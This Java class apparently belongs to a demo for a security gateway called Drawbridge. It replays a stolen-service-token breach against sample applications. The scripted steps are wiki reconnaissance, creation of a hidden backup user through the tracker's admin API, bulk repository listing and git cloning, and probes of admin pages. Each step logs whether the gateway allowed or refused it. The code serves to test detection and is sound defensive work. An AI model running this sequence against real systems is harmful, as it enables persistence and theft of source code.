package dev.drawbridge.demo;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;

/**
 * Replays the Thanksgiving-2023 attack with a stolen service token, over HTTP only (no server
 * classes), so it runs against a live gateway or straight against {@link SampleApps}. After the
 * token has been idle for months it comes from a new network, reads wiki pages, creates a backup
 * user through the tracker's admin API (persistence), lists and views repositories, clones them
 * with the real git client until it is refused (the lock), and tries the other applications. If its
 * very first request is refused (the breach was declared and the token suspended) it gives up. Each
 * step is printed with what Drawbridge decided.
 */
public final class BreachReplay {
  /** The backup account the attacker creates for persistence. */
  public static final String BACKUP_USER = "svc-okta-sync-backup";

  /**
   * {@code idle}: how long the token sat unused; {@code timeTravel} is called with it before the
   * first request (wire it to the gateway's clock; a no-op otherwise). {@code workDir} receives the
   * clones.
   */
  public record Options(
      int wikiPages,
      int reposToView,
      int reposToClone,
      Duration idle,
      Path workDir,
      String git,
      Consumer<Duration> timeTravel,
      Clock clock) {
    /** As in the incident: 120 repositories viewed, 76 cloned, after 4 months idle. */
    public static Options incident(Path workDir) {
      return new Options(
          6, 120, 76, Duration.ofDays(120), workDir, "git", d -> {}, Clock.systemUTC());
    }

    public Options withLimits(int wikiPages, int reposToView, int reposToClone) {
      return new Options(
          wikiPages, reposToView, reposToClone, idle, workDir, git, timeTravel, clock);
    }

    public Options withTimeTravel(Consumer<Duration> timeTravel) {
      return new Options(
          wikiPages, reposToView, reposToClone, idle, workDir, git, timeTravel, clock);
    }

    public Options withGit(String git) {
      return new Options(
          wikiPages, reposToView, reposToClone, idle, workDir, git, timeTravel, clock);
    }
  }

  private final ReplayTarget target;
  private final Options options;
  private final ReplayPrinter out;
  private final RawHttp http = new RawHttp(30_000);
  private final GitCloner cloner;
  private final List<ReplayStep> steps = new ArrayList<>();
  private final AdminApiClient admin;

  public BreachReplay(ReplayTarget target, Options options, PrintStream out) {
    this.target = target;
    this.options = options;
    this.out = new ReplayPrinter(out);
    this.cloner = new GitCloner(options.git(), 120);
    this.admin =
        target.adminApi() == null || target.adminToken() == null
            ? null
            : new AdminApiClient(target.adminApi(), target.adminToken());
  }

  /** Runs the replay to its end; only I/O failures of the local machine throw. */
  public ReplayResult run() throws IOException {
    Instant start = options.clock().instant();
    out.banner(target, options);
    options.timeTravel().accept(options.idle());
    // 1. Reconnaissance on the wiki.
    ReplayStep first = get("recon", SampleApps.WIKI, "/rest/api/content?limit=25");
    if (first.refused()) {
      out.refusedAtFirst(first);
      return result(true, 0, false, 0, 0, 0, start);
    }
    int pages = first.allowed() ? 1 : 0;
    List<String> links = wikiLinks(first);
    for (int i = 0; i < Math.min(options.wikiPages(), links.size()); i++) {
      pages += get("recon", SampleApps.WIKI, links.get(i)).allowed() ? 1 : 0;
    }
    // 2. The tracker, and a backup account for persistence.
    get("recon", SampleApps.JIRA, "/rest/api/2/issue/NET-1");
    String user =
        "{\"name\":\""
            + BACKUP_USER
            + "\",\"emailAddress\":\"okta-sync-backup@corp.example\","
            + "\"displayName\":\"Okta Sync (backup)\"}";
    ReplayStep created =
        send("persistence", SampleApps.JIRA, "POST", "/rest/api/2/user", user.getBytes(UTF8));
    boolean persisted = created.status() == 201;
    // 3. Source control: list, view, clone.
    List<String> repos = listRepositories();
    int viewed = 0;
    for (String repo : repos.subList(0, Math.min(options.reposToView(), repos.size()))) {
      ReplayStep s =
          get("view", SampleApps.GIT, "/scm/" + repo + ".git/info/refs?service=git-upload-pack");
      if (s.refused()) {
        break;
      }
      viewed += s.allowed() ? 1 : 0;
    }
    out.viewed(viewed);
    int cloned = 0;
    for (String repo : repos.subList(0, Math.min(options.reposToClone(), repos.size()))) {
      ReplayStep s = cloneRepo(repo);
      if (s.refused()) {
        out.lockLanded(s, cloned);
        break;
      }
      cloned += s.allowed() ? 1 : 0;
    }
    // 4. Lateral movement: the other applications.
    get("lateral", SampleApps.ADMIN, "/admin/");
    get("lateral", SampleApps.ADMIN, "/admin/users");
    get("lateral", SampleApps.WIKI, "/display/SEC/Runbook-1");
    get("lateral", SampleApps.JIRA, "/rest/api/2/user?username=" + BACKUP_USER);
    return result(false, pages, persisted, repos.size(), viewed, cloned, start);
  }

  private ReplayResult result(
      boolean refusedAtFirst,
      int pages,
      boolean persisted,
      int listed,
      int viewed,
      int cloned,
      Instant start) {
    ReplayStep refusal = steps.stream().filter(ReplayStep::refused).findFirst().orElse(null);
    List<Map<String, Object>> alerts = admin == null ? List.of() : admin.alerts(start);
    List<Map<String, Object>> locks = admin == null ? List.of() : admin.locks();
    ReplayResult r =
        new ReplayResult(
            steps,
            refusedAtFirst,
            pages,
            persisted,
            listed,
            viewed,
            cloned,
            refusal,
            alerts,
            locks);
    out.summary(r, admin != null);
    return r;
  }

  private List<String> wikiLinks(ReplayStep listing) {
    List<String> links = new ArrayList<>();
    JsonNode body = lastJson;
    if (listing.allowed() && body != null) {
      for (JsonNode r : body.path("results")) {
        String link = r.path("_links").path("webui").asText("");
        if (link.startsWith("/")) {
          links.add(link);
        }
      }
    }
    return links;
  }

  private List<String> listRepositories() {
    List<String> repos = new ArrayList<>();
    ReplayStep projects = get("list", SampleApps.GIT, "/rest/api/1.0/projects");
    if (!projects.allowed() || lastJson == null) {
      return repos;
    }
    List<String> keys = new ArrayList<>();
    lastJson.path("values").forEach(v -> keys.add(v.path("key").asText()));
    for (String key : keys) {
      int start = 0;
      while (start >= 0) {
        ReplayStep page =
            get(
                "list",
                SampleApps.GIT,
                "/rest/api/1.0/projects/" + key + "/repos?limit=100&start=" + start);
        if (!page.allowed() || lastJson == null) {
          return repos;
        }
        lastJson.path("values").forEach(v -> repos.add(key + "/" + v.path("slug").asText()));
        start =
            lastJson.path("isLastPage").asBoolean(true)
                ? -1
                : lastJson.path("nextPageStart").asInt(-1);
      }
    }
    return repos;
  }

  private JsonNode lastJson;

  private ReplayStep get(String phase, String app, String pathAndQuery) {
    return send(phase, app, "GET", pathAndQuery, null);
  }

  private ReplayStep send(String phase, String app, String method, String path, byte[] body) {
    ReplayTarget.Endpoint ep = target.endpoint(app);
    Map<String, String> headers = new LinkedHashMap<>();
    headers.put("User-Agent", "python-requests/2.31.0");
    headers.put("Accept", "application/json");
    headers.put("Drawbridge-Client-Id", target.clientId());
    headers.put("Drawbridge-Client-Secret", target.clientSecret());
    if (target.forwardedFor() != null) {
      headers.put("X-Forwarded-For", target.forwardedFor());
    }
    if (body != null) {
      headers.put("Content-Type", "application/json");
    }
    Instant t = options.clock().instant();
    lastJson = null;
    ReplayStep step;
    try {
      RawHttp.Response r = http.send(ep.base(), ep.host(), method, path, headers, body);
      String text = r.text();
      if (r.headers().getOrDefault("content-type", "").startsWith("application/json")) {
        try {
          lastJson = Exchanges.JSON.readTree(r.body());
        } catch (IOException e) {
          lastJson = null;
        }
      }
      step =
          new ReplayStep(
              steps.size() + 1,
              t,
              phase,
              app,
              method + " " + path,
              r.status(),
              ReplayStep.outcomeOf(r.status(), text),
              r.headers().get("drawbridge-request-id"),
              r.body().length);
    } catch (IOException e) {
      step =
          new ReplayStep(
              steps.size() + 1, t, phase, app, method + " " + path, 0, ReplayStep.ERROR, null, 0);
    }
    steps.add(step);
    out.step(step);
    return step;
  }

  private ReplayStep cloneRepo(String repo) throws IOException {
    Path into = options.workDir().resolve("clones").resolve(repo.replace('/', '_'));
    Files.createDirectories(into.getParent());
    Instant t = options.clock().instant();
    GitCloner.Result r = cloner.clone(target, "/scm/" + repo + ".git", into);
    int status = r.ok() ? 200 : r.status();
    String outcome = r.ok() ? ReplayStep.ALLOWED : ReplayStep.outcomeOf(status, null);
    ReplayStep step =
        new ReplayStep(
            steps.size() + 1,
            t,
            "clone",
            SampleApps.GIT,
            "git clone " + repo,
            status,
            outcome,
            null,
            r.bytes());
    steps.add(step);
    out.step(step);
    return step;
  }

  private static final java.nio.charset.Charset UTF8 = StandardCharsets.UTF_8;
}
